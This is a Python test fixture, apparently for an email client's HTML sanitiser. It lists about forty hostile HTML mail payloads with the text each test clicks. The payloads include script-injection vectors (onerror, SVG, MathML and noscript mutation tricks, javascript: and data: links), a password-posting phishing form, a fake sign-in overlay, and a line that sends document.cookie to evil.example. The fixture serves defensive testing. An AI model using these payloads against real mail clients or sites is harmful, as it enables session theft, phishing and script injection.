"""Malicious HTML mail: each payload tries to run script, open a dialog, reach another host,
load a remote image before it is allowed, or cover the page."""

EVIL = "https://evil.example"

HOSTILE_HTML = {
    "script tag": "<script>alert('script')</script><p>text</p>",
    "script src": f"<script src='{EVIL}/x.js'></script>",
    "img onerror": "<img src=x onerror=alert('onerror')>",
    "svg onload": "<svg onload=alert('svg')><circle r=5></circle></svg>",
    "svg script": "<svg><script>alert('svg-script')</script></svg>",
    "svg link": "<svg><a xlink:href='javascript:alert(1)'><text y='20'>svg link</text></a></svg>",
    "svg image": f"<svg><image href='{EVIL}/svg.png' width='10' height='10'/></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "javascript link": "<a id=go href='javascript:alert(1)'>click me</a>",
    "data link": "<a id=go href='data:text/html,<script>alert(1)</script>'>data link</a>",
    "vbscript link": "<a id=go href='vbscript:msgbox(1)'>vb</a>",
    "iframe": "<iframe src='javascript:alert(1)'></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": f"<object data='{EVIL}/x.swf'></object><embed src='{EVIL}/x.swf'>",
    "form": f"<form action='{EVIL}/steal' method=post><input name=password value=x>"
    "<button id=go>Verify account</button></form>",
    "meta refresh": f"<meta http-equiv='refresh' content='0;url={EVIL}/'>",
    "base href": f"<base href='{EVIL}/'><img src='relative.png'><a href='page'>relative</a>",
    "link stylesheet": f"<link rel=stylesheet href='{EVIL}/x.css'>"
    f"<link rel=prefetch href='{EVIL}/p'>",
    "style import": f"<style>@import url('{EVIL}/import.css'); p{{color:red}}</style><p>styled</p>",
    "css url": f"<div style=\"background:url('{EVIL}/bg.png');width:50px;height:50px\">bg</div>",
    "css var": f"<div style=\"--x:url('{EVIL}/var.png');background-image:var(--x)\">var</div>",
    "css expression": "<p style=\"width:expression(alert('expr'))\">expression</p>",
    "overlay": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;"
    "background:red;z-index:9999'>Your session expired, sign in again</div>",
    "tracking pixel": "<img src='https://tracker.example/open.gif' width=1 height=1>",
    "srcset": f"<img srcset='{EVIL}/a.png 1x, {EVIL}/b.png 2x'>",
    "picture": f"<picture><source srcset='{EVIL}/p.png'><img alt=pic></picture>",
    "video poster": f"<video poster='{EVIL}/poster.png' src='{EVIL}/v.mp4'></video>",
    "audio": f"<audio autoplay src='{EVIL}/a.mp3'></audio>",
    "input image": f"<input type=image src='{EVIL}/input.png'>",
    "body background": f"<body background='{EVIL}/body.png'><table background='{EVIL}/t.png'>"
    "<tr><td>x</td></tr></table></body>",
    "details ontoggle": "<details open ontoggle=alert('toggle')><summary>s</summary></details>",
    "fetch exfiltration": f"<img src=x onerror=\"fetch('{EVIL}/'+document.cookie)\">",
    "noscript mxss": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "onclick": "<div id=go onclick=alert('click') style='width:300px;height:100px'>click</div>",
    "top navigation": f"<a id=go href='{EVIL}/' target='_top'>leave</a>",
    "window open": "<img src=x onerror=\"window.open('https://evil.example/')\">",
    "marquee": "<marquee onstart=alert('marquee')>m</marquee>",
}

# Visible text to click in each message that invites a click. The sanitiser strips ids, so
# the test finds these by their text: a click that never happens would prove nothing.
CLICK_TEXT = {
    "javascript link": "click me",
    "data link": "data link",
    "vbscript link": "vb",
    "form": "Verify account",
    "onclick": "click",
    "top navigation": "leave",
    "details ontoggle": "s",
    "marquee": "m",
}
# The one link that survives (to another site): it may open in a new tab, never in the app's.
NEW_TAB_LINKS = {"top navigation": f"{EVIL}/"}
